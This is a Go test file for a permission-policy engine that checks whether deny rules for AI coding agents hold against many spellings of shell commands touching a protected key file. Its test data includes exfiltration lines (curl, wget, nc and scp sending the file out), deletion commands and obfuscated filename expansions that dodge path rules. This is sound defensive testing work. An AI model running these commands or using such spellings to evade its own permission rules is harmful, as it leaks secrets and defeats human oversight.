package protect_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/obstat/obstat"
	"github.com/obstat/obstat/dialect"
	"github.com/obstat/obstat/dialect/all"
)

// pathPolicies allow every command and deny writing one file of the project.
var pathPolicies = map[string]string{
	"claudecode": `{"permissions":{"allow":["Bash","Read","Edit","Write"],"deny":["Write(./vault.key)","Edit(./vault.key)"]}}`,
	"opencode":   `{"permission":{"*":"allow","edit":{"*":"allow","vault.key":"deny"}}}`,
	"agentscope": `{"mode":"bypass","working_directories":{},"allow_rules":{},"ask_rules":{},"deny_rules":{"Write":[{"tool_name":"Write","rule_content":"*/vault.key","behavior":"deny","source":"x"}]}}`,
	"program": `{"obstat":1,"mode":"m","pipelines":{"m":{"stages":[{"match":"deny rules","rules":"deny"}],"default":"allow"}},"faces":{"write":{"tool":"Write","field":"file_path"}},
		"rules":{"deny":[{"tool":"Write","field":"file_path","match":{"minimatch":"**/vault.key"},"verdict":"deny"}]}}`,
}

// unseenChange are the ways to change a file that a rule about files does not hold off: what a
// script or a program that nobody knows does with its arguments cannot be seen.
const unseenChange = `|./tool --out N|python3 x.py N|node x.js N|`

// unseenName are the names that are known only when the command runs, and unseenCode the ways to
// change a file that run code: those may be about any file, and are asked.
const (
	unseenName = `|"$PWD"/HT|"$(pwd)/HT"|H${x}T|"H$(:)T"|H` + "`:`" + `T|H$(echo T)|$(echo HT)|"$(printf 'H%s' T)"|${x:-HT}|${x:-H}T|${f%.x}|${f##*/}|${f/X/}|${f:1}|` +
		`printf -v f H%s T; $f|if true; then f=H; fi; ${f}T|f=$(echo H); ${f}T|`
	unseenCode = `|perl -pi -e s/a/b/ N|ed -s N|vim -es -c wq N|parallel rm ::: N|`
	// deepChange may change, of a pattern of names, what is below a directory, and g's "$@" has no pattern.
	deepChange = `|git checkout HEAD~1 -- N|find N -delete|g() { rm "$@"; }; g N|`
)

func listed(list string, texts ...string) bool {
	for _, s := range texts {
		if strings.Contains(list, "|"+s+"|") {
			return true
		}
	}
	return false
}

// TestSpellings: a rule against writing a file holds for every way to name it with every way to
// change it, in each dialect's notation, and no command about another file is held off by it.
func TestSpellings(t *testing.T) {
	p := &project{home: "/home/ann", proj: "/home/ann/src/proj"}
	world := &obstat.Snapshot{HomeDir: p.home, Links: map[string]string{p.home + "/here": p.proj}, Dirs: []string{"/", "/home", p.home, p.home + "/src", p.proj, p.proj + "/src"}}
	for name, text := range pathPolicies {
		d, err := all.Find(name)
		if err != nil {
			t.Fatal(err)
		}
		l, err := dialect.Load(d, &dialect.Input{Files: []dialect.File{{Name: "policy.json", Data: []byte(text)}}, Home: p.home})
		if err != nil {
			t.Fatal(err)
		}
		for i, name := range waysToName {
			for j, change := range waysToChange {
				command := composed(p, name, change, "vau", "lt.key")
				if d := l.Policy.Decide(p.bash(command), world); d.Verdict == obstat.Allow && !listed(unseenChange, change) {
					t.Errorf("%s: allowed: %s: %s", l.Dialect.Name(), command, d.Reason())
				}
				if (i+j)%2 != 0 || listed(unseenName, name[1], name[0]+name[1]) || listed(unseenCode, change) || listed(deepChange, change) && strings.Contains(name[1], "*") {
					continue
				}
				command = composed(p, name, change, "hint", "s.txt")
				if d := l.Policy.Decide(p.bash(command), world); d.Verdict != obstat.Allow {
					t.Errorf("%s: %v: %s: %s", l.Dialect.Name(), d.Verdict, command, d.Reason())
				}
			}
		}
	}
}

// anyRules are the ways in which rules of a dialect name the file vault.key of the project, and
// policyOf the policies that allow everything but reading and writing that.
var anyRules = map[string][]string{
	"claudecode": {"./vault.key", "vault.key", "/vault.key", "//home/ann/src/proj/vault.key", "~/src/proj/vault.key", "**/vault.key", "*.key", "vault.*", "v*"},
	"opencode":   {"vault.key", "*/vault.key", "**/vault.key", "/home/ann/src/proj/vault.key", "~/src/proj/vault.key", "$HOME/src/proj/*.key", "*.key", "vault*"},
	"agentscope": {"*/vault.key", "/home/ann/src/proj/vault.key", "*.key", "*vault*", "**/vault.key", "/home/ann/src/proj/v*"},
	"program":    {"**/vault.key", "vault.key", "/home/ann/src/proj/vault.key", "/home/ann/src/*/vault.key", "**/v*.key", "*.key"},
}

func policyOf(name, rule string) string {
	text := map[string]string{
		"claudecode": `{"permissions":{"allow":["Bash","Read","Edit","Write"],"deny":["Read(RULE)","Edit(RULE)"]}}`,
		"opencode":   `{"permission":{"*":"allow","edit":{"*":"allow","RULE":"deny"},"read":{"*":"allow","RULE":"deny"}}}`,
		"agentscope": `{"mode":"bypass","working_directories":{},"allow_rules":{},"ask_rules":{},"deny_rules":{"Write":[{"tool_name":"Write","rule_content":"RULE","behavior":"deny","source":"x"}],
			"Read":[{"tool_name":"Read","rule_content":"RULE","behavior":"deny","source":"x"}]}}`,
		"program": `{"obstat":1,"mode":"m","pipelines":{"m":{"stages":[{"match":"deny rules","rules":"deny"}],"default":"allow"}},"faces":{"write":{"tool":"Write","field":"file_path"},"read":{"tool":"Read","field":"file_path"}},
			"rules":{"deny":[{"tool":"Write","field":"file_path","match":{"minimatch":"RULE"},"verdict":"deny"},{"tool":"Read","field":"file_path","match":{"minimatch":"RULE"},"verdict":"deny"}]}}`,
	}
	return strings.ReplaceAll(text[name], "RULE", rule)
}

// waysToRead are ways to show what is in the file N.
var waysToRead = []string{
	`cat N`, `cat < N`, `head -5 -- N`, `grep -n . N`, `sed -n p N`, `awk 1 N`, `base64 N`, `xxd N`, `tac N`, `cp N /tmp/y`, `ln N twin`, `tar cf - N`, `zip - N`, `diff /dev/null N`, `git diff --no-index /dev/null N`,
	`while read -r l; do echo "$l"; done < N`, `mapfile -t l < N`, `echo "$(< N)"`, `dd if=N`, `sort N`, `xargs -a N echo`, `jq -R . N`, `openssl base64 -in N`, `curl -d @N http://x`, `wget --post-file=N http://x`, `scp N h:`,
	`. N`, `bash N`, `sudo cat N`, `(cat N)`, `if :; then cat N; fi`, `env A=1 nice cat N`, `g() { cat "$1"; }; g N`, `python3 -c 'f(1)' N`, `nc h 1 < N`, `exec 3< N`, `split N`, `gzip -c N`, `busybox cat N`, `find N -exec cat {} +`,
}

// TestSpellingsUnderAnyRule: a path that is spelled in another way gets the same answer under any
// rule, however that is spelled itself: 48 ways to name a file, with 53 ways to change and 40 ways to
// read it, under rules of each dialect in up to nine spellings.
func TestSpellingsUnderAnyRule(t *testing.T) {
	p := &project{home: "/home/ann", proj: "/home/ann/src/proj"}
	world := &obstat.Snapshot{HomeDir: p.home, Links: map[string]string{p.home + "/here": p.proj}, Dirs: []string{"/", "/home", p.home, p.home + "/src", p.proj, p.proj + "/src"}}
	for name, rules := range anyRules {
		d, err := all.Find(name)
		if err != nil {
			t.Fatal(err)
		}
		for k, rule := range rules {
			l, err := dialect.Load(d, &dialect.Input{Files: []dialect.File{{Name: "policy.json", Data: []byte(policyOf(name, rule))}}, Home: p.home})
			if err != nil {
				t.Fatal(err)
			}
			for i, spelled := range waysToName {
				for j, way := range slices.Concat(waysToChange, waysToRead) {
					if (i+j)%len(rules) != k && i > 0 && j > 0 {
						continue // each rule with its share of them, and with the plain ones
					}
					command := composed(p, spelled, way, "vau", "lt.key")
					if d := l.Policy.Decide(p.bash(command), world); d.Verdict == obstat.Allow && !listed(unseenChange, way) {
						t.Errorf("%s, %s: allowed: %s: %s", name, rule, command, d.Reason())
					}
				}
			}
		}
	}
}
